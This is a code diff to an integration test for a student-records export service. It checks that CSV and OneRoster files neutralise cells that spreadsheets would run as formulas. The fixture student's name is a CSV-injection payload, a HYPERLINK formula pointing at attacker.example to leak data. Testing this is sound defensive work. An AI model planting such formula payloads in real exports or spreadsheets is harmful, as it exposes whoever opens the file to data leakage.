@@ -16,12 +16,14 @@ import { unflatten } from '../infra/cli/read-rows';
 import { type S3Local, startS3Local } from '../infra/local/s3-local';
 import { parseExportConfig } from '../shared/config';
 import { idFields, oneRosterScopes, recordGroups } from '../shared/domain/groups';
+import { restoredCells } from '../shared/exports/csv';
 import { type Manifest, runIdAt } from '../shared/exports/manifest';
 import { oneRosterHeaders, oneRosterTables } from '../shared/exports/oneroster-csv';
 import { createExportServices, type ExportServices } from '../shared/exports/services';
 import { createS3Client, type ExportStore, FolderStore } from '../shared/exports/store';
 import { createLogger } from '../shared/log';
 import { json } from './support/contract';
+import { personBody } from './support/fixtures';
 import { checkOneRosterZip } from './support/oneroster-zip';
 import { startTestApi, TEST_SYNC_LAG_MS, type TestApi } from './support/test-api';
 
@@ -53,6 +55,16 @@ beforeAll(async () => {
   // The scheduled handler reads its configuration from the environment, as it does in Lambda.
   Object.assign(process.env, env());
 }, 60_000);
+
+/** A student whose name a spreadsheet would run as a formula (OWASP, "CSV Injection"). */
+const FORMULA_NAME = '=HYPERLINK("https://attacker.example/?leak","Ana") Silva';
+let formulaStudent: Record<string, unknown>;
+beforeAll(async () => {
+  formulaStudent = await json<Record<string, unknown>>(
+    await api.send('POST', '/api/students', { ...personBody('CSV'), name: FORMULA_NAME }),
+    201,
+  );
+});
 afterAll(async () => {
   services.destroy();
   s3.destroy();
@@ -157,7 +169,7 @@ describe('the scheduled export', () => {
 
       const csvBytes = await object(`${prefix}${group}.csv`);
       const rows = parse(csvBytes, { columns: true }) as Record<string, string>[];
-      expect(rows.map((row) => unflatten(row))).toEqual(records.map(withoutEmpty));
+      expect(rows.map((row) => unflatten(restoredCells(row)))).toEqual(records.map(withoutEmpty));
 
       for (const [name, bytes, format] of [
         [`${group}.ndjson.gz`, ndjsonBytes, 'ndjson+gzip'],
@@ -187,8 +199,11 @@ describe('the scheduled export', () => {
     expect(Object.keys(files).sort()).toEqual(
       ['manifest.csv', ...oneRosterTables.map((t) => `${t}.csv`)].sort(),
     );
+    // Cells as a spreadsheet shows them: a neutralised formula's leading quote is not part of its value.
     const table = (name: string) =>
-      parse(Buffer.from(files[name] as Uint8Array), { columns: true }) as Record<string, string>[];
+      (parse(Buffer.from(files[name] as Uint8Array), { columns: true }) as Record<string, string>[]).map(
+        restoredCells,
+      );
     const header = (name: string) =>
       (parse(Buffer.from(files[name] as Uint8Array), { to_line: 1 }) as string[][])[0];
 
@@ -329,6 +344,35 @@ describe('the scheduled export', () => {
         sex: demographics?.sex,
         cityOfBirth: demographics?.cityOfBirth,
       });
+    }
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas, in every CSV it writes', async () => {
+    const id = formulaStudent.student_id as string;
+    const students = parse(await object(`${prefix}students.csv`), { columns: true }) as Record<
+      string,
+      string
+    >[];
+    const student = students.find((row) => row.student_id === id);
+    expect(student?.name).toBe(`'${FORMULA_NAME}`);
+    expect(student?.['contacts.0.contact']).toBe("'+351 912 345 678");
+    expect((await object(`${prefix}students.csv`)).toString('utf8')).toContain(
+      `,"'=HYPERLINK(""https://attacker.example/?leak"",""Ana"") Silva",`,
+    );
+    const files = unzipSync(await object(`${prefix}oneroster-csv.zip`));
+    const users = parse(Buffer.from(files['users.csv'] as Uint8Array), { columns: true }) as Record<
+      string,
+      string
+    >[];
+    const user = users.find((row) => row.sourcedId === formulaStudent.entity_id);
+    expect(user?.givenName).toMatch(/^'=HYPERLINK\(/);
+    for (const [name, bytes] of Object.entries(files)) {
+      for (const row of parse(Buffer.from(bytes)) as string[][])
+        for (const cell of row) expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    for (const group of ['students', 'entities']) {
+      for (const row of parse(await object(`${prefix}${group}.csv`)) as string[][])
+        for (const cell of row) expect(cell, `${group}.csv: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
     }
   });
 
